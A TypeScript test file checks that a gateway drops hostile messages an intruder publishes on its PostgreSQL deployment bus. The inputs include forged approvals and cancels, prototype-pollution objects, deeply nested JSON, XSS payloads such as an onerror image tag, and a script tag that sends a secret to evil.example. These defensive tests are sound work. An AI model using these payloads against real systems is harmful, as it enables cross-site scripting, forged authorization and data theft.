/**
 * The deployment's bus carries what other gateway processes write, but anyone who can write to
 * the database (a local user with its password) or a bug can write there too: a gateway process
 * must drop what does not parse, and never act for a session or user a message does not own.
 * Here an intruder on the bus sends malformed, deeply nested and prototype-laden messages on every
 * topic, ann's forged "yes" to bob's pending approval and ann's "cancel all" while bob's turn
 * waits for his answer; the gateway goes on, and bob's turn is still his to answer. And a turn
 * start heard from another process whose end never comes no longer locks its session.
 * PostgreSQL only (the `postgres` project: the test gateway is a member of a deployment).
 */

import type { GatewayClient } from '@oxydra/gateway-client';
import { ON_POSTGRES, openTestPostgres } from '@oxydra/store-postgres/testing/test-store';
import type { EventBus } from '@oxydra/types';
import { describe, expect, it } from 'vitest';
import { helloClient } from './hello-client.js';
import {
  sendTurn,
  shellThenReport,
  startTestGateway,
  type TestGateway,
  type TestGatewayOptions,
  TOKEN,
} from './helpers.js';

/** The gateway's log lines, and the fields of those whose message includes `what`. */
function logRecorder() {
  const logs: Array<{ message: string; fields: Record<string, unknown> | undefined }> = [];
  return {
    logs,
    linesOf: (what: string) => logs.filter((line) => line.message.includes(what)).map((line) => line.fields),
    log: (_level: string, message: string, fields?: Record<string, unknown>) => {
      logs.push({ message, fields });
    },
  };
}

/** A gateway of a deployment (on its own schema) and an intruder's bus beside it. */
async function withIntruder(
  body: (env: TestGateway, intruder: EventBus, clients: GatewayClient[]) => Promise<void>,
  options: TestGatewayOptions = {},
): Promise<void> {
  const env = await startTestGateway({ config: { tools: { approval: 'ask' } }, ...options });
  env.model.script = shellThenReport;
  const intruderStores = await openTestPostgres(env.schema);
  const intruder = await intruderStores.stores.openBus('intruder');
  const clients: GatewayClient[] = [];
  try {
    await body(env, intruder, clients);
  } finally {
    for (const client of clients) client.close();
    await intruder.close();
    await intruderStores.close();
    await env.cleanup();
  }
}

describe('hostile messages on the deployment bus', () => {
  it.skipIf(!ON_POSTGRES)(
    'are dropped or refused: the process goes on, acting for no one they do not own',
    () =>
      withIntruder(async (env, intruder, clients) => {
        const bob = await helloClient(env.wsUrl, { user_id: 'bob', capabilities: ['approvals'] }, TOKEN);
        const ann = await helloClient(env.wsUrl, { user_id: 'ann', capabilities: ['approvals'] }, TOKEN);
        clients.push(bob.client, ann.client);
        const bobSession = bob.ack.session.session_id;
        const annSession = ann.ack.session.session_id;
        sendTurn(bob.client, bobSession, 'run it', 'b1');
        const asked = await bob.inbox.take('approval_requested');
        const approvalId = asked.payload.approval_id;

        const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`;
        const hostile: Array<[string, string]> = [];
        for (const topic of ['session', 'control', 'feed', 'presence', 'released']) {
          hostile.push(
            [topic, 'not json'],
            [topic, 'null'],
            [topic, '[]'],
            [topic, '"text"'],
            [topic, deep],
            [topic, '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}'],
            [topic, JSON.stringify({ session_id: annSession, user_id: { toString: 1 }, kind: 'cancel_all' })],
          );
        }
        hostile.push(
          // Frames that are no frames, for ann's session (its client is here), asking to be noted.
          ['session', JSON.stringify({ session_id: annSession, frame: 'null', approvers_only: true })],
          [
            'session',
            JSON.stringify({
              session_id: annSession,
              frame: '{"type":"approval_requested"}',
              approvers_only: true,
            }),
          ],
          // Ann (or whoever names her) answers bob's question, and cancels "all" her turns.
          [
            'control',
            JSON.stringify({ kind: 'approval', user_id: 'ann', approval_id: approvalId, allow: true }),
          ],
          ['control', JSON.stringify({ kind: 'cancel_all', user_id: 'ann' })],
          ['control', JSON.stringify({ kind: 'cancel', session_id: 'no-such-session' })],
          // A feed event without an owner, a huge presence list.
          ['feed', JSON.stringify({ name: 'agent', data: { secret: 'for nobody' } })],
          [
            'presence',
            JSON.stringify({ sessions: Array.from({ length: 100_000 }, (_, i) => `s-${i}`), ask: 'x' }),
          ],
          ['released', JSON.stringify({ user_id: 'bob' })],
        );
        for (const [topic, text] of hostile) await intruder.publish(topic, text);
        // The bus keeps one sender's messages in order: once this one is seen, the others were handled.
        const probe = { type: 'health_status', payload: { request_id: 'probe', healthy: true } };
        await intruder.publish(
          'session',
          JSON.stringify({ session_id: annSession, frame: JSON.stringify(probe) }),
        );
        await ann.inbox.take('health_status', (frame) => frame.payload.request_id === 'probe', 20_000);

        expect(({} as Record<string, unknown>).polluted).toBeUndefined();
        // Bob's question is still open and his: the forged answer neither approved nor cancelled it.
        expect(bob.inbox.frames.some((frame) => frame.type === 'approval_resolved')).toBe(false);
        expect(bob.inbox.frames.some((frame) => frame.type === 'turn_cancelled')).toBe(false);
        bob.client.send('approval_response', { approval_id: approvalId, allow: true });
        const resolved = await bob.inbox.take('approval_resolved');
        expect(resolved.payload).toMatchObject({ approval_id: approvalId, allow: true, by: 'client' });
        const done = await bob.inbox.take('turn_completed');
        expect(done.payload.response.message).toContain('approved-42');
        // Ann's client still works.
        const list = ann.client.send('list_sessions', {
          include_archived: false,
          include_subagent_sessions: false,
        });
        expect((await ann.inbox.take('session_list')).payload.request_id).toBe(list);
      }),
  );

  it.skipIf(!ON_POSTGRES)(
    'a turn heard running elsewhere that the store does not hold does not lock its session',
    () =>
      withIntruder(async (env, intruder, clients) => {
        const ann = await helloClient(env.wsUrl, { user_id: 'ann', capabilities: ['approvals'] }, TOKEN);
        clients.push(ann.client);
        const annSession = ann.ack.session.session_id;
        // A turn said to run on another process that runs nowhere (a forged start, or a real
        // turn's end lost: the bus is at most once) does not lock ann out of her session: the
        // store, which holds every running turn of the deployment, says there is none.
        const ghost = {
          type: 'turn_started',
          payload: {
            request_id: 'x',
            session: ann.ack.session,
            turn: { turn_id: 'ghost', index: 1 },
          },
        };
        await intruder.publish(
          'session',
          JSON.stringify({ session_id: annSession, frame: JSON.stringify(ghost) }),
        );
        await ann.inbox.take('turn_started', (frame) => frame.payload.turn.turn_id === 'ghost', 20_000);
        sendTurn(ann.client, annSession, 'mine', 'a1');
        const started = await Promise.race([
          ann.inbox.take('turn_started', (frame) => frame.payload.turn.turn_id === 'a1', 20_000),
          ann.inbox.take('error', () => true, 20_000),
        ]);
        expect(started.type).toBe('turn_started');
      }),
  );

  it.skipIf(!ON_POSTGRES)(
    'forged session frames and malformed messages are dropped with one log line each kind, never sent to the clients',
    async () => {
      const { logs, linesOf, log } = logRecorder();
      await withIntruder(
        async (gateway, intruder, clients) => {
          const ann = await helloClient(gateway.wsUrl, { user_id: 'ann' }, TOKEN);
          clients.push(ann.client);
          const annSession = ann.ack.session.session_id;
          const secret = 'sk-forged-0123456789abcdef';
          const forged = [
            // Not JSON: a client's parser would choke on it.
            `<script>fetch("https://evil.example/?${secret}")</script>`,
            // A frame's opening, then a payload of the attacker's shape.
            JSON.stringify({
              type: 'assistant_delta',
              payload: { html: `<img src=x onerror=alert(1)> ${secret}` },
            }),
            // A type the protocol has not, and a turn start without its turn.
            JSON.stringify({ type: 'run_this', payload: { command: secret } }),
            JSON.stringify({ type: 'turn_started', payload: { request_id: 'x', session: 7 } }),
          ];
          for (const frame of forged) {
            await intruder.publish('session', JSON.stringify({ session_id: annSession, frame }));
          }
          // Messages that are no message of their topic (the envelope, not the frame in it): not
          // JSON, or not the shape. Each topic read whether or not a client watches.
          const envelopes: Array<[string, string]> = [
            ['session', `not json ${secret}`],
            ['control', JSON.stringify({ kind: 'cancel', session_id: 7, note: secret })],
            ['presence', JSON.stringify({ sessions: secret })],
          ];
          for (const [topic, text] of envelopes) await intruder.publish(topic, text);
          // A control message of a kind a newer gateway could send: unknown, not malformed.
          await intruder.publish('control', JSON.stringify({ kind: 'pause', session_id: annSession }));
          // Same sender, in order: once the well-formed probe is here, the forged ones were handled.
          const probe = { type: 'health_status', payload: { request_id: 'probe', healthy: true } };
          await intruder.publish(
            'session',
            JSON.stringify({ session_id: annSession, frame: JSON.stringify(probe) }),
          );
          await ann.inbox.take('health_status', (frame) => frame.payload.request_id === 'probe', 20_000);

          expect(ann.inbox.malformed).toEqual([]);
          // The first drop is logged at once; the others are counted for one summary line a
          // minute later (drop-log.ts): a flood of forged frames is not a flood of log lines.
          const dropped = logs.filter((line) => line.message.includes('malformed session frame'));
          expect(dropped.map((line) => line.fields)).toEqual([
            { type: 'unknown', why: 'not JSON', bytes: Buffer.byteLength(forged[0]!) },
          ]);
          // A type the protocol has not is said apart from a malformed frame: during a rolling
          // deploy a newer gateway sends types an older one has not, and that is no attack.
          expect(linesOf('unknown frame type')).toEqual([
            { topic: 'session', type: 'run_this', bytes: Buffer.byteLength(forged[2]!) },
          ]);
          // Malformed messages are logged too (they were dropped without a word): the topic, why
          // and the size, never the text.
          expect(linesOf('malformed message')).toEqual([
            { topic: 'session', why: 'not JSON', bytes: Buffer.byteLength(envelopes[0]![1]) },
          ]);
          expect(JSON.stringify(logs)).not.toContain(secret);
          // The session still works: a forged turn start did not lock it.
          const list = ann.client.send('list_sessions', {
            include_archived: false,
            include_subagent_sessions: false,
          });
          expect((await ann.inbox.take('session_list')).payload.request_id).toBe(list);
        },
        { log },
      );
      // What the rate limit held back is said when the gateway stops, not lost with it: the
      // two other malformed messages, the two other malformed frames and the unknown control kind.
      const summaries = logs.filter((line) => line.message.includes('more since the last line'));
      expect(summaries.map((line) => [line.message, line.fields]).sort()).toEqual(
        [
          [
            'dropped a malformed message from the deployment bus (2 more since the last line)',
            { dropped: 2 },
          ],
          [
            'dropped a malformed session frame from the deployment bus (2 more since the last line)',
            { dropped: 2 },
          ],
          [
            'dropped an unknown frame type from the deployment bus (a newer gateway process sent it?) (1 more since the last line)',
            { dropped: 1 },
          ],
        ].sort(),
      );
      expect(JSON.stringify(logs)).not.toContain('sk-forged');
    },
  );
  it.skipIf(!ON_POSTGRES)(
    'forged live feed events are dropped with one log line, never sent to the dashboard',
    () => {
      const logs: Array<{ message: string; fields: Record<string, unknown> | undefined }> = [];
      return withIntruder(
        async (gateway, intruder) => {
          const feed = await fetch(`${gateway.gateway.url}/api/v1/events`, {
            headers: { authorization: `Bearer ${TOKEN}` },
          });
          expect(feed.status).toBe(200);
          const reader = feed.body!.getReader();
          const decoder = new TextDecoder();
          let streamed = '';
          const readUntil = async (text: string) => {
            while (!streamed.includes(text)) {
              const { value, done } = await reader.read();
              if (done) throw new Error(`the feed ended before ${text}`);
              streamed += decoder.decode(value, { stream: true });
            }
          };
          // Told it is connected once the others (none here) heard of it: relayed events come now.
          await readUntil(': connected');
          const secret = 'sk-forged-feed-0123456789';
          const forged = [
            // A name of the feed, data of the attacker's shape (an agent that is no agent).
            {
              name: 'agent',
              data: { type: 'agent_spawned', agent: { html: `<img src=x onerror=alert(1)> ${secret}` } },
            },
            { name: 'approval', data: { type: 'approval_requested', id: secret } },
            { name: 'agent', data: secret },
            // A feed event a newer gateway could send: unknown, not malformed.
            { name: 'agent_moved', data: { id: secret } },
          ];
          for (const event of forged) await intruder.publish('feed', JSON.stringify(event));
          // No feed message at all: read (and logged) only while the feed has a client here.
          const envelope = JSON.stringify({ name: 7, data: secret });
          await intruder.publish('feed', envelope);
          // Same sender, in order: once the well-formed probe is here, the forged ones were handled.
          const probe = { type: 'agent_exited', agent_id: 'probe-agent', status: 'completed' };
          await intruder.publish(
            'feed',
            JSON.stringify({ name: 'agent', data: { ...probe, extra: secret } }),
          );
          await readUntil('probe-agent');
          await reader.cancel();

          // Only the probe came, as its schema reads it (the key it does not name dropped).
          expect(streamed).not.toContain(secret);
          expect(streamed).toContain(`event: agent\ndata: ${JSON.stringify(probe)}\n\n`);
          const dropped = logs.filter((line) => line.message.includes('malformed live feed event'));
          expect(dropped.map((line) => line.fields)).toEqual([
            { name: 'agent', bytes: Buffer.byteLength(JSON.stringify(forged[0])) },
          ]);
          const lines = (what: string) =>
            logs.filter((line) => line.message.includes(what)).map((line) => line.fields);
          expect(lines('unknown frame type')).toEqual([
            { topic: 'feed', type: 'agent_moved', bytes: Buffer.byteLength(JSON.stringify(forged[3])) },
          ]);
          expect(lines('malformed message')).toEqual([
            { topic: 'feed', why: 'wrong shape', bytes: Buffer.byteLength(envelope) },
          ]);
          expect(JSON.stringify(logs)).not.toContain(secret);
        },
        { log: (_level, message, fields) => logs.push({ message, fields }) },
      );
    },
  );

  it.skipIf(!ON_POSTGRES)(
    'a message or frame nested past the depth bound is dropped before it is parsed, logged once',
    async () => {
      const { linesOf, log } = logRecorder();
      await withIntruder(
        async (gateway, intruder, clients) => {
          const ann = await helloClient(gateway.wsUrl, { user_id: 'ann' }, TOKEN);
          clients.push(ann.client);
          const annSession = ann.ack.session.session_id;
          const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
          // A frame of the protocol whose `startup_status` (a field any value fits) nests 5,000
          // levels: it passed the frame's schema and went to ann's client as the gateway's own.
          const deepFrame = (id: string, depth: number) =>
            `{"type":"health_status","payload":{"request_id":"${id}","healthy":true,"startup_status":${nested(depth)}}}`;
          for (const id of ['deep-1', 'deep-2'])
            await intruder.publish(
              'session',
              JSON.stringify({ session_id: annSession, frame: deepFrame(id, 5000) }),
            );
          // A control message nesting 5,000 levels in a key no schema names.
          const deepControl = `{"kind":"cancel","session_id":"${annSession}","x":${nested(5000)}}`;
          await intruder.publish('control', deepControl);
          // Within the bound: still delivered.
          await intruder.publish(
            'session',
            JSON.stringify({ session_id: annSession, frame: deepFrame('shallow', 200) }),
          );
          await ann.inbox.take('health_status', (frame) => frame.payload.request_id === 'shallow', 20_000);
          const ids = ann.inbox.frames.map((frame) => (frame.payload as { request_id?: string }).request_id);
          expect(ids).not.toContain('deep-1');
          expect(ids).not.toContain('deep-2');
          // One line for the two frames (the second counted for the summary), one for the message.
          expect(linesOf('malformed session frame')).toEqual([
            { type: 'health_status', why: 'too deep', bytes: Buffer.byteLength(deepFrame('deep-1', 5000)) },
          ]);
          expect(linesOf('malformed message')).toEqual([
            { topic: 'control', why: 'too deep', bytes: Buffer.byteLength(deepControl) },
          ]);
        },
        { log },
      );
    },
  );
});
